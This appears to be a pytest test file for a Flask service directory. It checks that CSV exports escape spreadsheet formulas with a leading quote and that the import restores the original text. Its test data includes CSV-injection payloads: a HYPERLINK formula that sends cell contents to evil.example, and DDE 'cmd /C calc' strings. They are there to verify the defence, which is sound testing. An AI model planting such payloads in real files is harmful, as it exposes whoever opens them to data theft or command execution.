"""Spreadsheet formulas in the CSV exports (issue 18): text an editor typed that a spreadsheet would run as
a formula is written with a single quote in front, as OWASP's CSV-injection guidance advises, and the
import takes that quote off again, so an export imports back unchanged.

The hostile text is written straight into the demo database with plain SQL, the files come from the real
``export services`` command and are read with the ``csv`` module; the cell each text must become is
written out by hand below, not worked out by the code under test.
"""

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import select, text

from app.directory.models import Service
from app.directory.visibility import is_public
from app.extensions import db

# OWASP: a cell must not start with any of these.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Stored text → the cell the export must write for it.
CELLS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0": "'+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-1": "'-1",
    "'=a name that really starts with a quote": "''=a name that really starts with a quote",
    "''+two quotes": "'''+two quotes",
    "'Tis the season": "'Tis the season",  # a quote before an ordinary letter is no formula
    "Tea = chat + cake": "Tea = chat + cake",
}
# Checked in the export only: the import trims each cell, so text starting with a tab or a carriage return
# comes back without it, and the command line reads every line end as "\n" (as before).
EXPORT_ONLY = {
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    # A carriage return inside a cell must not end the row, or the next line would start with a formula.
    "Tea\r=HYPERLINK(\"http://evil.example/\")": "Tea\r=HYPERLINK(\"http://evil.example/\")",
}
# A number of another country keeps its + (a UK one is written 01225 …), so its cell starts as a formula would.
PHONE = ("+33 1 42 68 53 00", "'+33 1 42 68 53 00")


def public_ids(app: Flask, how_many: int) -> list[tuple[int, str]]:
    """(id, export key) of public listings with a place, each of a different organisation."""
    with app.app_context():
        chosen: dict[int, tuple[int, str]] = {}
        for service in db.session.scalars(select(Service).order_by(Service.id)):
            if is_public(service) and service.locations and service.organisation_id not in chosen:
                chosen[service.organisation_id] = (service.id, service.external_id or service.uid)
        assert len(chosen) >= how_many, "the demo should have enough public listings"
        return list(chosen.values())[:how_many]


def make_hostile(app: Flask, stored: list[str]) -> dict[str, str]:
    """Give one public listing per text that text as its name, summary, description, first address and
    organisation's name, and a phone number starting with +; returns export key → text."""
    chosen = public_ids(app, len(stored))
    with app.app_context():
        for (service_id, _), value in zip(chosen, stored, strict=True):
            db.session.execute(text("UPDATE service SET name = :name, summary = :summary, description = :description, "
                                    "phone = :phone WHERE id = :id"),
                               {"name": value, "summary": value, "description": value, "phone": PHONE[0],
                                "id": service_id})
            db.session.execute(text("UPDATE location SET address = :v WHERE service_id = :id"),
                               {"v": value, "id": service_id})
            db.session.execute(text("UPDATE organisation SET name = :v WHERE id = "
                                    "(SELECT organisation_id FROM service WHERE id = :id)"),
                               {"v": organisation_name(value), "id": service_id})
        db.session.commit()
    return {key: value for (_, key), value in zip(chosen, stored, strict=True)}


def organisation_name(value: str) -> str:
    return f"{value} (organisation)"


def export(app: Flask, format_name: str, out: Path) -> list[dict[str, str]]:
    result = app.test_cli_runner().invoke(args=["export", "services", "--format", format_name, "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def stored_text(app: Flask, key: str) -> tuple[str, str, str, str, str, str]:
    """A listing's texts, read with plain SQL."""
    with app.app_context():
        found = db.session.execute(text(
            "SELECT s.name, s.summary, s.description, s.phone, o.name, "
            "(SELECT address FROM location WHERE service_id = s.id ORDER BY position LIMIT 1) "
            "FROM service s JOIN organisation o ON o.id = s.organisation_id "
            "WHERE s.external_id = :key OR s.uid = :key"), {"key": key}).one()
        return tuple(found)


@pytest.mark.parametrize("format_name", ["csv", "backup-csv"])
def test_no_exported_cell_starts_a_formula(format_name: str, demo_app: Flask, tmp_path: Path) -> None:
    cells = CELLS | EXPORT_ONLY
    keys = make_hostile(demo_app, list(cells))
    rows = export(demo_app, format_name, tmp_path / "services.csv")

    formulas = [(row["external_id"], column, value) for row in rows for column, value in row.items()
                if value.startswith(TRIGGERS)]
    assert formulas == []
    by_key = {row["external_id"]: row for row in rows}
    for key, stored in keys.items():
        row = by_key[key]
        assert (row["name"], row["summary"], row["description"], row["address"]) == (cells[stored],) * 4
        assert row["organisation"] == organisation_name(cells[stored])
        assert row["phone"] == PHONE[1]


def test_hostile_text_survives_an_export_and_import_unchanged(demo_app: Flask, tmp_path: Path) -> None:
    keys = make_hostile(demo_app, list(CELLS))
    path = tmp_path / "services.csv"
    rows = {row["external_id"]: row for row in export(demo_app, "csv", path)}
    assert [rows[key]["name"] for key in keys] == [CELLS[value] for value in keys.values()]
    with demo_app.app_context():  # so the import has something to put back
        db.session.execute(text("UPDATE service SET name = 'Changed', summary = 'Changed', description = 'Changed', "
                                "phone = '01225 000000'"))
        db.session.commit()

    result = demo_app.test_cli_runner().invoke(args=["import", "services", str(path)])
    assert result.exit_code == 0, result.output

    for key, value in keys.items():
        assert stored_text(demo_app, key) == (value, value, value, PHONE[0], organisation_name(value), value)


def test_a_hand_written_quoted_cell_reads_as_its_text(app: Flask, tmp_path: Path) -> None:
    """A spreadsheet that saves a quoted cell keeps the quote; the import reads the text behind it."""
    header = ["external_id", "organisation", "name", "categories", "areas", "min_age"]
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\n")
    writer.writerows([header, ["q-1", "'@Larkhall Neighbours", "'=Tea and chat", "wellbeing", "bath", "18"],
                      ["q-2", "Larkhall Neighbours", "'-1 minus one", "wellbeing", "bath", "'-1"]])
    path = tmp_path / "quoted.csv"
    path.write_text(out.getvalue(), encoding="utf-8")

    result = app.test_cli_runner().invoke(args=["import", "services", str(path)])

    # '-1 is read as -1, which is no age: refused with the same words as a plain -1.
    assert result.exit_code == 1
    assert "line 3: min_age: -1 is not an age between 0 and 120" in result.output
    assert "line 2:" not in result.output

    writer = csv.writer(out := io.StringIO(newline=""), lineterminator="\n")
    writer.writerows([header, ["q-1", "'@Larkhall Neighbours", "'=Tea and chat", "wellbeing", "bath", "18"]])
    path.write_text(out.getvalue(), encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["import", "services", str(path)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        assert db.session.execute(text(
            "SELECT s.name, o.name, s.min_age FROM service s JOIN organisation o ON o.id = s.organisation_id"
        )).all() == [("=Tea and chat", "@Larkhall Neighbours", 18)]
